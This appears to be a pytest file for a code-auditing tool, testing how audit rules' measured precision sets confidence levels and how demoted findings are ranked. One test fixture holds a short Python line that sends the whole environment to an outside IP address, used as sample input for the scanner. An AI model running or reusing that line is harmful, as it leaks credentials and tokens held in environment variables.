"""Confidence as measured: shares of right findings, and that they leave what the ranking demotes alone."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from audit_helpers import look, write

from codeguard.analysis.engine import Engine
from codeguard.analysis.rules import Context, load_file_signals
from codeguard.audit.precision import TABLE, Scale, measured_confidence, table
from codeguard.audit.rules import all_rules
from codeguard.corpus.chunking import chunk_file
from codeguard.models import Confidence, Severity
from experiments.benchmarks.audit_precision import judged_packages, main, pooled

SCALE = Scale(high=0.85, medium=0.7, prior=4, least=5)
JUDGED = {"a.right": (16, 0), "a.wrong": (4, 4), "b.few": (4, 0)}  # 20 of 24 right; of `a` 16 of 20


@pytest.mark.parametrize(
    ("rule", "expected"),
    [
        ("a.right", (16 + 4 * (16 + 4 * 20 / 24) / 24) / 20),
        ("a.wrong", 4 * (16 + 4 * 20 / 24) / 24 / 8),
        ("a.never_judged", (16 + 4 * 20 / 24) / 24),
        ("b.few", None),
        ("c.unknown", None),
    ],
)
def test_a_share_is_drawn_towards_that_of_the_signal(rule: str, expected: float | None) -> None:
    assert SCALE.share(rule, JUDGED) == (expected if expected is None else pytest.approx(expected))


@pytest.mark.parametrize(
    ("share", "expected"),
    [(0.85, Confidence.HIGH), (0.849, Confidence.MEDIUM), (0.7, Confidence.MEDIUM), (0.699, Confidence.LOW)],
)
def test_the_scale(share: float, expected: Confidence) -> None:
    assert SCALE.confidence(share) is expected


def test_the_table_is_what_was_judged() -> None:
    _, judged = table(TABLE.read_text(encoding="utf-8"))
    assert judged == pooled(judged_packages().values())
    assert set(judged) <= {item.id for item in all_rules()}


def test_of_one_rule_in_one_package_three_findings_count() -> None:
    assert pooled([{"a.b": (9, 6)}, {"a.b": (2, 1)}]) == {"a.b": (5, 3)}


def test_confidence_carries_over_to_packages_that_it_was_not_made_from(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "figures.json"
    monkeypatch.setattr("sys.argv", ["audit_precision", "--json", str(out)])
    main()
    false = json.loads(out.read_text())["false_by_confidence_from_other_packages"]
    scale, _ = table(TABLE.read_text(encoding="utf-8"))
    assert false["high"]["share"] <= 1 - scale.high
    assert false["medium"]["share"] <= 1 - scale.medium
    assert false["low"]["share"] > 1 - scale.medium


@pytest.mark.parametrize(
    ("rule", "severity", "expected"),
    [
        ("injection.instruction", Severity.HIGH, Confidence.LOW),
        ("injection.instruction", Severity.LOW, None),
        ("injection.hidden-instruction", Severity.CRITICAL, None),
        ("insecure.unpickled-file", Severity.MEDIUM, Confidence.HIGH),
        ("behavior.convicted", Severity.HIGH, None),
        ("shouting.comment", Severity.MEDIUM, None),
    ],
)
def test_what_was_not_measured_keeps_its_own_confidence(
    rule: str, severity: Severity, expected: Confidence | None
) -> None:
    assert measured_confidence(rule, severity) is expected


def test_what_the_ranking_demotes_does_not_follow_what_an_audit_is_sure_of(tmp_path: Path) -> None:
    text = "import os, urllib.request\n\nurllib.request.urlopen('http://203.0.113.7/', str(os.environ).encode())\n"
    (step, *_) = [
        step
        for step in Engine(load_file_signals(), Context()).observe(chunk_file("m.py", text.encode()))
        if any(item.signal == "capabilities" and item.demotes for item in step.observations)
    ]
    certain = {f"{item.signal}.{item.rule}" for item in step.observations if item.demotes}
    write(tmp_path, {"m.py": text})
    told = {item.rule: item.confidence for item in look(tmp_path, only=("capabilities",)).open}
    assert {told[rule] for rule in certain} == {Confidence.LOW}
